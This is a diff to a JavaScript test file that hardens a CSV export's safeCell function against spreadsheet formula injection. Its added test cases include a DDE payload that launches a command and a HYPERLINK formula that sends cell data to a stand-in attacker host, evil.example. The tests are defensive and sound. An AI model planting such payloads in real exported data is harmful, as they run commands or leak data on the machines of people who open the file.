@@ -290,12 +290,29 @@ describe('CSV export', () => {
     expect(chloe).toContain('580,000');
   });
 
-  it('text that a spreadsheet would run as a formula is defused; numbers are left alone', () => {
+  it('every cell starting with = + - @, a tab or a carriage return is defused (OWASP), numbers included', () => {
     expect(safeCell('=HYPERLINK("x")')).toBe('\'=HYPERLINK("x")');
     expect(safeCell('@SUM(A1)')).toBe("'@SUM(A1)");
-    expect(safeCell('-0.4')).toBe('-0.4');
-    expect(safeCell('+5%')).toBe('+5%');
+    // Issue 14: a sign and a digit were let through, and these ran as formulas.
+    expect(safeCell("-2+3+cmd|' /C calc'!A0")).toBe("'-2+3+cmd|' /C calc'!A0");
+    expect(safeCell('+1+HYPERLINK("http://evil.example/?"&A1,"x")')).toBe(
+      '\'+1+HYPERLINK("http://evil.example/?"&A1,"x")',
+    );
+    expect(safeCell('-0.4')).toBe("'-0.4");
+    expect(safeCell('+5%')).toBe("'+5%");
+    expect(safeCell('\t=1')).toBe("'\t=1");
+    expect(safeCell('\r=1')).toBe("'\r=1");
     expect(safeCell('- a dash list')).toBe("'- a dash list");
     expect(safeCell('plain')).toBe('plain');
+    expect(safeCell('0.4')).toBe('0.4');
+  });
+
+  it('no cell of the CSV starts with a formula character, whatever students wrote (fast-check)', () => {
+    fc.assert(
+      fc.property(fc.array(fc.string(), { maxLength: 8 }), (cells) => {
+        for (const cell of cells.map(safeCell)) expect(/^[=+\-@\t\r]/.test(cell)).toBe(false);
+      }),
+      { numRuns: 200 },
+    );
   });
 });
